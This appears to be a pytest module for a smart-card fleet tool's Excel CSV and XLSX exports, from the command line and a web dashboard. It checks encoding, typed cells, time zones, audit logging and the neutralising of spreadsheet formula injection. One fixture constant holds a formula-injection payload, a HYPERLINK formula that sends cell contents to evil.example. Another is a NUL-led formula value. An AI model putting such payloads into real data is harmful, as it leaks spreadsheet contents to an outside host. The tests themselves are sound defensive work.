"""Exports people open: ``--format csv-excel`` (``;`` and a byte order mark, as Excel set for
France reads a CSV on a double-click) and ``--format xlsx`` (typed cells), from the command
and from the dashboard, on real SQLite and PostgreSQL; hostile text neutralised in both."""

from __future__ import annotations

import copy
import csv
import io
from collections.abc import Iterator
from datetime import date, datetime, timedelta
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest
import typer
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet
from typer.testing import CliRunner, Result

from cpsfleet.controller.cli.exports import register
from cpsfleet.controller.db.connect import is_postgres
from cpsfleet.controller.db.people import People
from cpsfleet.controller.db.store import Store
from cpsfleet.controller.filters import Filters
from cpsfleet.controller.settings import ControllerSettings
from cpsfleet.controller.web import data as webdata
from cpsfleet.controller.web import exports
from cpsfleet.controller.web.exports import CARD_COLUMNS, HOST_COLUMNS, READINESS_COLUMNS
from cpsfleet.schemas import validate
from tests.test_dashboard import fetch, serving
from tests.test_readiness_cli import LYON, NOW, imported, lyon

app = typer.Typer()
register(app)

DOCTOR, NURSE = "99213845", "10452278"
CHAMBERY, CHAMBERY_HOST = "Chambéry", "c4a7b0e2d9f81136"
HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Details")'
NUL = "\0=1+2"
KEPT_NUL = "\ufffd=1+2"  # NUL as XML (and PostgreSQL's text) keeps it
# Réunion: no summer time, four hours ahead of UTC all year.
REUNION = ZoneInfo("Indian/Reunion")
DAY = timedelta(days=1)
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def chambery() -> dict[str, Any]:
    """Lyon's four readers on a Chambéry workstation; the doctor's card there (its own
    serial) names a holder whose surname is a formula and whose given name starts with NUL."""
    document = copy.deepcopy(lyon())
    document["host"] |= {"id": CHAMBERY_HOST, "hostname": "ws-chy-02", "site": CHAMBERY}
    for certificate in document["readers"][0]["card"]["certificates"]:
        certificate |= {"surname": HYPERLINK, "given_name": NUL}
    for reader in document["readers"]:  # a card is in one place: each host its own serials
        if reader["card"] and reader["card"]["serial"]:
            reader["card"]["serial"] += "-chy"
    return validate(document)


@pytest.fixture(scope="module")
def fleet(module_database: str) -> str:
    """Lyon and Chambéry, four readers each, and the sample roster."""
    with Store(module_database) as store:
        store.record_status(lyon(), NOW)
        store.record_status(chambery(), NOW)
    imported(module_database)
    return module_database


@pytest.fixture(scope="module")
def config(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("config") / "controller.toml"
    path.write_text('[thresholds]\ntimezone = "Indian/Reunion"\n', encoding="utf-8")
    return path


def exported(what: str, database: str, config: Path, *args: str) -> Result:
    result = CliRunner().invoke(
        app, ["export", what, "--database", database, "--config", str(config), *args]
    )
    assert result.exit_code == 0, result.output
    return result


def excel_csv(text: str) -> tuple[tuple[str, ...], list[dict[str, str]]]:
    reader = csv.DictReader(io.StringIO(text, newline=""), delimiter=";")
    rows = list(reader)
    return tuple(reader.fieldnames or ()), rows


def workbook(content: bytes | Path) -> Worksheet:
    book = load_workbook(io.BytesIO(content) if isinstance(content, bytes) else content)
    sheet = book.active
    assert isinstance(sheet, Worksheet)
    return sheet


def records(sheet: Worksheet) -> list[dict[str, Any]]:
    """The rows under the header, each as {header: cell}."""
    header = [cell.value for cell in sheet[1]]
    return [dict(zip(header, row, strict=True)) for row in sheet.iter_rows(min_row=2)]


def local(moment: datetime, zone: ZoneInfo) -> datetime:
    """``moment`` as Excel holds it: naive, in ``zone``, to the second."""
    return moment.astimezone(zone).replace(tzinfo=None, microsecond=0)


# --- CSV for Excel ------------------------------------------------------------------------


def test_excel_csv_reads_back_with_semicolons_and_the_accents(fleet: str, config: Path) -> None:
    output = exported("cards", fleet, config, "--format", "csv-excel").stdout_bytes
    assert output.startswith(b"\xef\xbb\xbfserial;kind;surname;")  # the BOM, then ;
    columns, rows = excel_csv(output.decode("utf-8-sig"))
    assert columns == CARD_COLUMNS
    by_serial = {row["serial"]: row for row in rows}
    doctor = by_serial[DOCTOR]
    assert (doctor["surname"], doctor["profession"], doctor["site"]) == (
        "DONNAT-GADY",
        "Médecin",
        LYON,
    )
    assert (doctor["days_left"], doctor["in_reader"]) == ("200", "true")
    assert by_serial[f"{NURSE}-chy"]["site"] == CHAMBERY
    assert "Masseur-Kinésithérapeute" in {row["profession"] for row in rows}


def test_excel_csv_quotes_hostile_text_and_keeps_separators_inside_cells(
    fleet: str, config: Path
) -> None:
    _, rows = excel_csv(
        exported("cards", fleet, config, "--format", "csv-excel").stdout_bytes.decode("utf-8-sig")
    )
    hostile = next(row for row in rows if row["serial"] == f"{DOCTOR}-chy")
    assert hostile["surname"] == f"'{HYPERLINK}"
    # PostgreSQL keeps NUL as U+FFFD: no formula lead left there, nothing to quote.
    assert hostile["given_name"] == (KEPT_NUL if is_postgres(fleet) else f"'{NUL}")
    stream = io.StringIO(newline="")
    exports.write_excel_csv([{"a": "x;y", "b": 'say "hi"'}], ("a", "b"), stream)
    assert stream.getvalue() == '\ufeffa;b\r\n"x;y";"say ""hi"""\r\n'


def test_excel_csv_to_a_file_opens_as_utf_8_sig(fleet: str, config: Path, tmp_path: Path) -> None:
    target = tmp_path / "hosts.csv"
    exported("hosts", fleet, config, "--format", "csv-excel", "--output", str(target))
    with target.open(encoding="utf-8-sig", newline="") as stream:
        reader = csv.DictReader(stream, delimiter=";")
        rows = list(reader)
    assert tuple(reader.fieldnames or ()) == HOST_COLUMNS
    assert [(row["hostname"], row["site"], row["readers"]) for row in rows] == [
        ("ws-chy-02", CHAMBERY, "4"),  # by site: Chambéry before Lyon
        ("ws-lyon-07", LYON, "4"),
    ]


def test_excel_csv_of_the_readiness(fleet: str, config: Path) -> None:
    output = exported("readiness", fleet, config, "--format", "csv-excel").stdout_bytes
    columns, rows = excel_csv(output.decode("utf-8-sig"))
    assert columns == READINESS_COLUMNS
    assert {row["surname"] for row in rows} == {"DONNAT-GADY", "MARTIN", "ROUSSEAU", "BERNARD"}


# --- XLSX ---------------------------------------------------------------------------------


def test_xlsx_cards_are_typed(fleet: str, config: Path, tmp_path: Path) -> None:
    target = tmp_path / "cards.xlsx"
    result = exported("cards", fleet, config, "--format", "xlsx", "--output", str(target))
    assert result.stdout == ""
    assert [path.name for path in tmp_path.iterdir()] == ["cards.xlsx"]  # no temporary left
    sheet = workbook(target)
    assert sheet.title == "cards"
    assert tuple(cell.value for cell in sheet[1]) == CARD_COLUMNS  # the CSV's keys
    assert all(cell.font.b for cell in sheet[1])
    assert sheet.freeze_panes == "A2"
    expires = next(cell for cell in sheet[1] if cell.value == "expires")
    assert expires.comment is not None and "Indian/Reunion" in expires.comment.text
    rows = {row["serial"].value: row for row in records(sheet)}
    doctor = rows[DOCTOR]
    assert doctor["expires"].is_date and isinstance(doctor["expires"].value, datetime)
    assert doctor["expires"].value == local(NOW + 200 * DAY, REUNION)
    assert doctor["last_seen"].value == local(NOW, REUNION)  # Réunion's time, not UTC's
    assert doctor["days_left"].value == 200 and doctor["days_left"].data_type == "n"
    assert (doctor["pin_tries_left"].value, doctor["pin_tries_max"].value) == (3, 3)
    assert doctor["in_reader"].value is True and doctor["in_reader"].data_type == "b"
    assert doctor["profession"].value == "Médecin"
    assert rows[f"{NURSE}-chy"]["site"].value == CHAMBERY
    vitale = rows[None]  # a card without serial: unknown values are empty cells
    assert vitale["expires"].value is None and vitale["days_left"].value is None


def test_xlsx_neutralises_hostile_text(fleet: str, config: Path, tmp_path: Path) -> None:
    target = tmp_path / "cards.xlsx"
    exported("cards", fleet, config, "--format", "xlsx", "--output", str(target))
    hostile = next(
        row for row in records(workbook(target)) if row["serial"].value == "99213845-chy"
    )
    surname, given_name = hostile["surname"], hostile["given_name"]
    assert surname.value == HYPERLINK  # the text as it is, ...
    assert surname.data_type == "s"  # ... in a text cell, never a formula ("f")
    assert surname.quotePrefix  # and kept text when someone edits it in Excel
    assert given_name.value == KEPT_NUL and given_name.data_type == "s"  # XML has no NUL
    assert given_name.quotePrefix == (not is_postgres(fleet))  # PostgreSQL kept no NUL
    assert not hostile["host"].quotePrefix  # plain text is plain


def test_xlsx_hosts_and_readiness(fleet: str, config: Path, tmp_path: Path) -> None:
    hosts, readiness = tmp_path / "hosts.xlsx", tmp_path / "readiness.xlsx"
    exported("hosts", fleet, config, "--format", "xlsx", "--output", str(hosts))
    exported("readiness", fleet, config, "--format", "xlsx", "--output", str(readiness))
    sheet = workbook(hosts)
    assert tuple(cell.value for cell in sheet[1]) == HOST_COLUMNS
    rows = {row["hostname"].value: row for row in records(sheet)}
    lyon_host = rows["ws-lyon-07"]
    assert lyon_host["last_status_at"].is_date
    assert lyon_host["last_status_at"].value == local(NOW, REUNION)
    assert (lyon_host["readers"].value, lyon_host["cards"].value) == (4, 4)
    assert lyon_host["pcsc_available"].value is True
    assert lyon_host["critical"].data_type == "n"
    sheet = workbook(readiness)
    assert tuple(cell.value for cell in sheet[1]) == READINESS_COLUMNS
    people = {row["surname"].value: row for row in records(sheet)}
    doctor = people["DONNAT-GADY"]
    assert doctor["card_expires"].is_date
    assert doctor["card_expires"].value.date() == (NOW + 200 * DAY).astimezone(REUNION).date()
    assert doctor["last_seen_at"].is_date
    assert doctor["last_seen_at"].value == local(NOW, REUNION)
    assert doctor["card_present"].value is True
    assert people["BERNARD"]["card_expires"].value is None


def test_xlsx_needs_an_output_file(fleet: str, config: Path) -> None:
    for what in ("hosts", "cards", "readiness"):
        result = CliRunner().invoke(
            app, ["export", what, "--database", str(fleet), "--format", "xlsx"]
        )
        assert result.exit_code == 2
        assert result.stdout == ""
        assert result.stderr == "error: --format xlsx writes a binary file: give it --output\n"


def test_render_xlsx_of_no_rows_is_a_header() -> None:
    body = exports.render([], CARD_COLUMNS, "xlsx", ZoneInfo("Europe/Paris"), "cards")
    sheet = workbook(body)
    assert [[cell.value for cell in row] for row in sheet.iter_rows()] == [list(CARD_COLUMNS)]


def test_xlsx_days_are_dates() -> None:
    row = {"card_expires": "2027-03-01", "last_seen_at": "2026-12-03T23:30:00Z"}
    sheet = workbook(exports.render([row], tuple(row), "xlsx", ZoneInfo("Europe/Paris")))
    expires, seen = sheet["A2"], sheet["B2"]
    assert expires.is_date and expires.value == datetime(2027, 3, 1)
    assert expires.value.date() == date(2027, 3, 1) and expires.number_format == "yyyy-mm-dd"
    assert seen.value == datetime(2026, 12, 4, 0, 30)  # Paris, an hour ahead in winter


# --- the dashboard's downloads ------------------------------------------------------------


@pytest.fixture(scope="module")
def url(fleet: str) -> Iterator[str]:
    with serving(fleet) as address:
        yield address


def test_the_dashboard_downloads_both(url: str, fleet: str) -> None:
    reply = fetch(url, "/export/cards.csv-excel?site=Chamb%C3%A9ry")
    assert reply.status == 200
    assert reply.headers["content-type"] == "text/csv; charset=utf-8"
    assert reply.headers["content-disposition"] == (
        f'attachment; filename="cpsfleet-cards-{NOW:%Y-%m-%d}-excel.csv"'
    )
    settings = ControllerSettings()
    with Store.open_readonly(fleet) as store:
        rows = webdata.cards(store, NOW, settings.thresholds, Filters(CHAMBERY))
    assert reply.body == exports.render(rows, CARD_COLUMNS, "csv-excel")
    columns, chosen = excel_csv(reply.body.decode("utf-8-sig"))
    assert columns == CARD_COLUMNS and {row["site"] for row in chosen} == {CHAMBERY}
    assert f"'{HYPERLINK}" in {row["surname"] for row in chosen}

    reply = fetch(url, "/export/cards.xlsx?site=Chamb%C3%A9ry")
    assert reply.status == 200
    assert reply.headers["content-type"] == XLSX
    assert reply.headers["content-disposition"] == (
        f'attachment; filename="cpsfleet-cards-{NOW:%Y-%m-%d}.xlsx"'
    )
    sheet = workbook(reply.body)
    cards = records(sheet)
    assert [row["serial"].value for row in cards] == [row["serial"] for row in rows]
    hostile = next(row for row in cards if row["serial"].value == f"{DOCTOR}-chy")
    assert hostile["surname"].value == HYPERLINK and hostile["surname"].data_type == "s"
    assert hostile["last_seen"].value == local(NOW, settings.thresholds.zone)  # Paris
    hosts = workbook(fetch(url, "/export/hosts.xlsx").body)
    assert [row["site"].value for row in records(hosts)] == [CHAMBERY, LYON]
    readiness = fetch(url, "/export/readiness.csv-excel")
    assert readiness.body.startswith("\ufeffsurname;given_name;".encode())
    assert fetch(url, "/export/readiness.xlsx?host=ws-lyon-07").status == 400
    assert fetch(url, "/export/cards.xls").status == 404


def test_pages_link_the_excel_downloads(url: str) -> None:
    reply = fetch(url, "/cards?site=Grenoble&q=x")
    assert reply.status == 200
    html = reply.text
    for suffix in ("csv", "csv-excel", "xlsx", "json"):
        assert f'href="/export/cards.{suffix}?site=Grenoble"' in html


def test_every_download_is_in_the_audit_trail(url: str, fleet: str) -> None:
    """Who took which file with which filters: the fleet leaves the building in downloads."""
    assert fetch(url, "/export/hosts.xlsx?site=Chamb%C3%A9ry&severity=").status == 200
    assert fetch(url, "/export/readiness.csv-excel").status == 200
    assert fetch(url, "/export/cards.xls").status == 404  # nothing taken, nothing recorded
    with Store.open_readonly(fleet) as store:
        entries = People(store.database).audit(action="export", limit=2)
    assert [(entry.actor, entry.target, entry.detail) for entry in entries] == [
        ("token", "readiness.csv-excel", {}),
        ("token", "hosts.xlsx", {"site": CHAMBERY}),
    ]
    at = NOW.replace(microsecond=0)  # stored to the second
    assert all(entry.outcome == "ok" and entry.at == at for entry in entries)
